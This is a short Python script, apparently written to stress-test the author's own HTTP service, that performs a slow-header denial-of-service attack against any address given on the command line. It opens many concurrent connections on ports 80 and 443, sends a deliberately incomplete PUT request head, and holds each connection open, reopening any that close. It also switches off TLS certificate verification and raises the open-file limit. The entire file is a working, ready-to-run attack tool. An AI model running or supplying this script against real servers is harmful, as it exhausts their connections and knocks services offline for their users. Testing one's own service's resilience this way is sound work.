"""Half-sent request heads, so many at a time, and another for each that is closed: `half_sent.py ADDRESS COUNT`.

Every tenth of a second it says how many are open, and how many were closed or refused so far.
"""

import asyncio
import resource
import ssl
import sys

HOST = "post.exampleshire.example"
HALF = f"PUT /v1/letters/0123456789abcdef0123456789abcdef HTTP/1.1\r\nhost: {HOST}\r\ncontent-le".encode()

# Who attacks asks for no certificate.
TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE

held = closed = 0


async def send(address, port, tls):
    """One head after the other, each held for as long as it is let."""
    global held, closed
    while True:
        try:
            reader, writer = await asyncio.open_connection(address, port, **tls)
        except OSError:
            closed += 1
            await asyncio.sleep(0.1)
            continue
        held += 1
        try:
            writer.write(HALF)
            await reader.read(1)
        except OSError:
            pass
        held -= 1
        closed += 1
        writer.transport.abort()


async def main(address, count):
    # A handshake costs the attacker as much as us: most heads are sent in the clear.
    kinds = [(443, {"ssl": TLS, "server_hostname": HOST}), (80, {}), (80, {}), (80, {})]
    senders = [asyncio.create_task(send(address, *kinds[number % 4])) for number in range(count)]
    while senders:
        print(held, closed, flush=True)
        await asyncio.sleep(0.1)


most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
asyncio.run(main(sys.argv[1], int(sys.argv[2])))
